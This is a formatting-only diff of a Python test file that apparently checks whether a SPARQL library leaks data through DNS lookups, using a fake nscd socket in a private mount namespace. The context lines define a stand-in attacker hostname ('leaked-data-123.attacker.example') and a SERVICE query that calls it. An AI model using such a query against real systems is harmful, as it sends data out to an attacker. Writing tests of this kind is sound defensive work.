@@ -22,8 +22,10 @@ from .server_fixtures import recording
 NAME = b"leaked-data-123.attacker.example"
 QUERY = f"SELECT * WHERE {{ SERVICE <http://{NAME.decode()}/sparql> {{ ?s ?p ?o }} }}"
 # Mount a tmpfs over /var/run (only in the namespace) and the fake's directory at nscd's place.
-NAMESPACE = ('mount -t tmpfs tmpfs "$(realpath /var/run)" && mkdir -p /var/run/nscd '
-             '&& mount --bind "$0" /var/run/nscd && exec "$@"')
+NAMESPACE = (
+    'mount -t tmpfs tmpfs "$(realpath /var/run)" && mkdir -p /var/run/nscd '
+    '&& mount --bind "$0" /var/run/nscd && exec "$@"'
+)
 UNSANDBOXED = f"""
 from pyoxigraph import Store
 try:
@@ -60,10 +62,13 @@ def namespaces_available() -> bool:
 
 
 pytestmark = [
-    pytest.mark.slow, pytest.mark.server,
-    pytest.mark.skipif(not namespaces_available(),
-                       reason="needs a private mount namespace (root and unshare --mount) to "
-                              "put a fake nscd at /var/run/nscd/socket"),
+    pytest.mark.slow,
+    pytest.mark.server,
+    pytest.mark.skipif(
+        not namespaces_available(),
+        reason="needs a private mount namespace (root and unshare --mount) to "
+        "put a fake nscd at /var/run/nscd/socket",
+    ),
 ]
 
 
@@ -79,8 +84,22 @@ def fake_nscd(folder: Path) -> Iterator[list[bytes]]:
 def run_in_namespace(folder: Path, script: str, *args: str) -> str:
     """Run a Python script where nscd's socket is the fake's; its output."""
     result = subprocess.run(
-        ["unshare", "--mount", "sh", "-c", NAMESPACE, str(folder), sys.executable, "-c", script,
-         *args], capture_output=True, text=True, timeout=120)
+        [
+            "unshare",
+            "--mount",
+            "sh",
+            "-c",
+            NAMESPACE,
+            str(folder),
+            sys.executable,
+            "-c",
+            script,
+            *args,
+        ],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert result.returncode == 0, result.stderr
     return result.stdout
 
